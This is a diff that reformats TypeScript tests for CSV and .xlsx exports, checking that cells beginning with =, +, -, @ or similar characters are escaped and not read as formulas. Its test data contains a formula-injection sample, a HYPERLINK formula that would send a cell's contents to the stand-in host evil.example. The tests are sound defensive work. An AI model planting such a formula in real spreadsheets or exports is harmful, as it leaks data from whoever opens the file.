@@ -25,8 +25,17 @@ const isNumber = (field: string) => field.trim() !== '' && Number.isFinite(Numbe
 const dropped = (field: string) => field.replace(/^[\p{Zs}"]*/u, '').normalize('NFKC');
 
 const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '|', '"', ' ', '＝', '＠', 'x', 'é');
-const text = fc.array(fc.oneof({ weight: 3, arbitrary: risky }, { weight: 1, arbitrary: fc.string({ maxLength: 3 }) }), { maxLength: 16 }).map((parts) => parts.join(''));
-const row = fc.record({ name: text, note: text, rate: fc.option(fc.double({ noNaN: true, noDefaultInfinity: true })), joined: fc.constant('2024-02-29') });
+const text = fc
+  .array(fc.oneof({ weight: 3, arbitrary: risky }, { weight: 1, arbitrary: fc.string({ maxLength: 3 }) }), {
+    maxLength: 16,
+  })
+  .map((parts) => parts.join(''));
+const row = fc.record({
+  name: text,
+  note: text,
+  rate: fc.option(fc.double({ noNaN: true, noDefaultInfinity: true })),
+  joined: fc.constant('2024-02-29'),
+});
 
 async function cellsOf(workbook: Buffer) {
   const read = new ExcelJS.Workbook();
@@ -40,7 +49,12 @@ describe('CSV export (the directory)', () => {
   it('a Belgian or Dutch Excel, splitting on ;, finds no formula in x;=HYPERLINK(…);y', () => {
     const csv = csvOf(COLUMNS, [{ name: 'Ann', note: HYPERLINK, rate: -12.5, joined: '2024-02-29' }]);
     const line = csv.split('\r\n')[1];
-    expect(line.split(';').map(dropped).filter((field) => FORMULA_START.test(field))).toEqual([]);
+    expect(
+      line
+        .split(';')
+        .map(dropped)
+        .filter((field) => FORMULA_START.test(field)),
+    ).toEqual([]);
     expect(line).toEqual('Ann,"x;\'=HYPERLINK(""http://evil.example/?""&A1,""Click"");y",-12.5,2024-02-29');
   });
 
@@ -50,7 +64,8 @@ describe('CSV export (the directory)', () => {
         const csv = csvOf(COLUMNS, rows).replace(/^\uFEFF/, '');
         for (const separator of [',', ';', '\t', '|', '\r', '\n']) {
           // A number is no formula: the rate column writes -12.5 as the number it is.
-          for (const field of csv.split(separator)) if (!isNumber(field)) expect(dropped(field)).not.toMatch(FORMULA_START);
+          for (const field of csv.split(separator))
+            if (!isNumber(field)) expect(dropped(field)).not.toMatch(FORMULA_START);
         }
       }),
       { numRuns: 500 },
@@ -60,8 +75,15 @@ describe('CSV export (the directory)', () => {
 
 describe('.xlsx exports (xlsxOf: directory, contracts, licenses, review reports)', () => {
   it('writes x;=HYPERLINK(…);y and =1+1 as text that starts no formula, a number as a number', async () => {
-    const cells = await cellsOf(await xlsxOf('Export', COLUMNS, [{ name: '=1+1', note: HYPERLINK, rate: -12.5, joined: '2024-02-29' }]));
-    expect(cells.slice(4).map((cell) => cell.value)).toEqual(["'=1+1", 'x;\'=HYPERLINK("http://evil.example/?"&A1,"Click");y', -12.5, new Date('2024-02-29T00:00:00Z')]);
+    const cells = await cellsOf(
+      await xlsxOf('Export', COLUMNS, [{ name: '=1+1', note: HYPERLINK, rate: -12.5, joined: '2024-02-29' }]),
+    );
+    expect(cells.slice(4).map((cell) => cell.value)).toEqual([
+      "'=1+1",
+      'x;\'=HYPERLINK("http://evil.example/?"&A1,"Click");y',
+      -12.5,
+      new Date('2024-02-29T00:00:00Z'),
+    ]);
     expect(cells.map((cell) => cell.type)).not.toContain(ExcelJS.ValueType.Formula);
   });
 
